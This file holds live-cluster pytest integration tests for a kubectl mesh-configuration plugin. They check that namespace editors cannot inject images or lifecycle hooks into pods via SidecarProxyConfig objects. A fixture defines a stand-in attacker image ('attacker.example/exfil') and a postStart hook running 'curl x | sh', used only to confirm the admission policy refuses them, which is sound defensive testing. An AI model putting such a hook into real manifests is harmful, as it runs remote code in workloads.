"""The trust model against the real API server, with real ServiceAccount tokens
(issue 12, docs/security.md): an editor of one namespace cannot get code of its choosing
into that namespace's pods through a SidecarProxyConfig; a mesh admin still can, from the
mesh root namespace; sync refuses what slipped in before the policy existed."""

from __future__ import annotations

import copy
import re
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml
from clusterlib import KubeCluster, poll

from kubectl_meshcfg.core import trust
from kubectl_meshcfg.core.model import Origin, parse_config

from .livelib import Meshcfg, deployment, kubectl_apply, spc, write
from .test_live_access import token_kubeconfig

pytestmark = pytest.mark.cluster

EVIL_IMAGE = "attacker.example/exfil:latest"
EVIL = {"lifecycle": {"drainAgent": {"enabled": True, "image": EVIL_IMAGE},
                      "postStart": {"exec": {"command": ["/bin/sh", "-c", "curl x | sh"]}}}}


def test_crd_validation_rules_cannot_see_the_namespace(kube_cluster: KubeCluster) -> None:
    """Why the policy is an admission policy and not a CRD rule: x-kubernetes-validations
    see only metadata.name and generateName (checked on this kube-apiserver)."""
    group = f"t{uuid.uuid4().hex[:8]}.meshcfg.test"
    crd = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
           "metadata": {"name": f"probes.{group}"},
           "spec": {"group": group, "scope": "Namespaced",
                    "names": {"plural": "probes", "singular": "probe", "kind": "Probe"},
                    "versions": [{"name": "v1", "served": True, "storage": True, "schema": {
                        "openAPIV3Schema": {"type": "object", "x-kubernetes-validations": [
                            {"rule": "self.metadata.namespace == 'istio-system'"}],
                            "properties": {"spec": {"type": "object"}}}}}]}}
    refused = kube_cluster.kubectl("apply", "--dry-run=server", "-f", "-",
                                   input=yaml.safe_dump(crd), check=False)
    assert refused.returncode != 0
    assert "compilation failed" in refused.stderr and "namespace" in refused.stderr, refused.stderr


def install_policy(cluster: KubeCluster, root: str, confined_to: list[str]) -> None:
    """The shipped policy for root namespace `root`; the binding is further confined to
    this test's namespaces so that other tests sharing the cluster are not affected."""
    policy, binding = trust.policy(root)
    binding = copy.deepcopy(binding)
    binding["metadata"]["name"] = policy["metadata"]["name"] = f"meshcfg-trust-{root}"
    binding["spec"]["policyName"] = policy["metadata"]["name"]
    binding["spec"]["matchResources"]["namespaceSelector"]["matchExpressions"].append(
        {"key": "kubernetes.io/metadata.name", "operator": "In", "values": confined_to})
    kubectl_apply(cluster, policy, binding)


def admission_denies(cluster: KubeCluster, doc: dict[str, Any]) -> bool:
    proc = cluster.kubectl("apply", "--dry-run=server", "-f", "-", input=yaml.safe_dump(doc),
                           check=False)
    return proc.returncode != 0 and "meshcfg-trust" in proc.stderr


def remove_policy(cluster: KubeCluster, root: str) -> None:
    name = f"meshcfg-trust-{root}"
    cluster.kubectl("delete", "validatingadmissionpolicybinding", name, "--ignore-not-found")
    cluster.kubectl("delete", "validatingadmissionpolicy", name, "--ignore-not-found")


def proxy_and_init(cluster: KubeCluster, ns: str, name: str) -> tuple[dict[str, Any], list[str]]:
    spec = cluster.get_json("deployment", name, "-n", ns)["spec"]["template"]["spec"]
    proxy = next((c for c in spec["containers"] if c["name"] == "istio-proxy"), {})
    return proxy, [c["image"] for c in spec.get("initContainers", [])]


def test_an_editor_cannot_put_code_into_pods_and_an_admin_still_can(
        meshcfg: Meshcfg, kube_cluster: KubeCluster, test_namespace: str, mesh_ns: str,
        tmp_path: Path) -> None:
    ns = test_namespace
    install_policy(kube_cluster, mesh_ns, [ns, mesh_ns])
    try:
        poll(lambda: admission_denies(kube_cluster, spc("probe", ns, EVIL)), timeout=60,
             what="the admission policy to be in force")
        kubectl_apply(kube_cluster, deployment("web", ns, {"app": "web"}))
        editor_config = token_kubeconfig(kube_cluster, "meshcfg-editor", ns, mesh_ns, "editor")
        assert kube_cluster.kubectl("auth", "can-i", "patch", "deployments", "-n", ns,
                                    kubeconfig=editor_config, check=False).stdout.strip() == "no"
        editor = Meshcfg(kube_cluster, mesh_ns, editor_config)
        evil = write(tmp_path / "evil.yaml", spc("evil", ns, EVIL))

        # meshcfg refuses before writing ...
        refused = editor("apply", "--root-namespace", mesh_ns, "-f", str(evil))
        assert refused.code == 1
        assert (f"evil.yaml: document 1: SidecarProxyConfig {ns}/evil: "
                "spec.lifecycle.postStart.exec: only SidecarProxyConfigs") in refused.err
        # ... and the API server refuses the editor's own client (kubectl, same token)
        direct = kube_cluster.kubectl("apply", "-f", str(evil), kubeconfig=editor_config,
                                      check=False)
        assert direct.returncode != 0
        assert f"this one is in {ns}" in direct.stderr and "drainAgent.image" in direct.stderr
        assert not kube_cluster.exists("spc", "evil", "-n", ns)

        # the editor's legitimate use: resources, timing, a sleep hook, the stock agent
        fine = write(tmp_path / "fine.yaml", spc("fine", ns, {
            "proxy": {"concurrency": 2},
            "lifecycle": {"terminationDrainDuration": "20s",
                          "drainAgent": {"enabled": True, "minDrainDuration": "3s"}}}))
        applied = editor("apply", "--root-namespace", mesh_ns, "-f", str(fine))
        assert applied.code == 0, applied.err

        # the admin's legitimate use: an image and a hook from the mesh root namespace
        admin_spec = {"lifecycle": {"drainAgent": {"enabled": True,
                                                   "image": "registry.example/drain:1"},
                                    "postStart": {"exec": {"command": ["/bin/true"]}}}}
        admin_doc = write(tmp_path / "admin.yaml", spc("mesh-hooks", mesh_ns, admin_spec))
        assert meshcfg("apply", "--root-namespace", mesh_ns, "-f", str(admin_doc)).code == 0
        kube_cluster.kubectl("delete", "spc", "fine", "-n", ns)
        synced = meshcfg("sync", "-n", ns, f"--istio-namespace={mesh_ns}")
        assert synced.code == 0, synced.err
        proxy, images = proxy_and_init(kube_cluster, ns, "web")
        assert "registry.example/drain:1" in images and EVIL_IMAGE not in images
        assert proxy["lifecycle"]["postStart"] == {"exec": {"command": ["/bin/true"]}}
    finally:
        remove_policy(kube_cluster, mesh_ns)


def test_sync_refuses_code_from_an_object_that_predates_the_policy(
        meshcfg: Meshcfg, kube_cluster: KubeCluster, test_namespace: str, mesh_ns: str) -> None:
    ns = test_namespace
    kubectl_apply(kube_cluster, deployment("web", ns, {"app": "web"}),
                  spc("old-evil", ns, EVIL))       # no policy installed: the server takes it
    synced = meshcfg("sync", "-n", ns, f"--istio-namespace={mesh_ns}")
    assert synced.code == 1
    assert (f"deployment.apps/web ({ns}): not synced: refused: lifecycle.postStart.exec "
            f"comes from SidecarProxyConfig {ns}/old-evil, outside the mesh root namespace "
            f"'{mesh_ns}'") in synced.err
    assert "lifecycle.drainAgent.image comes from SidecarProxyConfig" in synced.err
    assert synced.out.rstrip().endswith("0 synced, 0 unchanged, 1 failed, 0 skipped")
    _, images = proxy_and_init(kube_cluster, ns, "web")
    assert EVIL_IMAGE not in images
    linted = meshcfg("lint", "-n", ns)
    assert linted.code == 3
    assert f"lifecycle.postStart.exec comes from SidecarProxyConfig {ns}/old-evil" in linted.out


HANDLERS: list[dict[str, Any] | None] = [
    None, {"exec": {"command": ["/bin/true"]}}, {"httpGet": {"port": 8080, "path": "/drain"}},
    {"tcpSocket": {"port": 15000}}, {"sleep": {"seconds": 2}}]
AGENTS: list[dict[str, Any] | None] = [
    None, {"enabled": True, "minDrainDuration": "2s"}, {"enabled": True, "image": "r.example/d:1"}]


def lifecycles() -> list[dict[str, Any]]:
    """Every combination of hooks and agent the CRD accepts."""
    found = []
    for post_start in HANDLERS:
        for pre_stop in HANDLERS:
            for agent in AGENTS:
                if pre_stop is not None and agent is not None:
                    continue            # mutually exclusive (a CRD rule)
                parts = {"postStart": post_start, "preStop": pre_stop, "drainAgent": agent}
                found.append({k: v for k, v in parts.items() if v is not None})
    return found


def test_the_admission_policy_and_trust_py_agree_on_every_combination(
        kube_cluster: KubeCluster, crd: None, test_namespace: str, mesh_ns: str) -> None:
    ns = test_namespace
    install_policy(kube_cluster, mesh_ns, [ns, mesh_ns])
    try:
        poll(lambda: admission_denies(kube_cluster, spc("probe", ns, EVIL)), timeout=60,
             what="the admission policy to be in force")
        docs = [spc(f"c-{i}", ns, {"lifecycle": lc}) for i, lc in enumerate(lifecycles())]
        expected = {doc["metadata"]["name"] for doc in docs
                    if trust.check_config(ns, parse_config(doc, Origin("t"), ns).values, mesh_ns)}
        proc = kube_cluster.kubectl("apply", "--dry-run=server", "-f", "-",
                                    input=yaml.safe_dump_all(docs), check=False)
        denied = set(re.findall(r'"(c-\d+)" is forbidden: ValidatingAdmissionPolicy', proc.stderr))
        assert 10 < len(expected) < len(docs)
        assert denied == expected, proc.stderr
        # the root namespace may set all of them
        root_docs = [spc(f"c-{i}", mesh_ns, {"lifecycle": lc}) for i, lc in enumerate(lifecycles())]
        kube_cluster.kubectl("apply", "--dry-run=server", "-f", "-",
                             input=yaml.safe_dump_all(root_docs))
    finally:
        remove_policy(kube_cluster, mesh_ns)
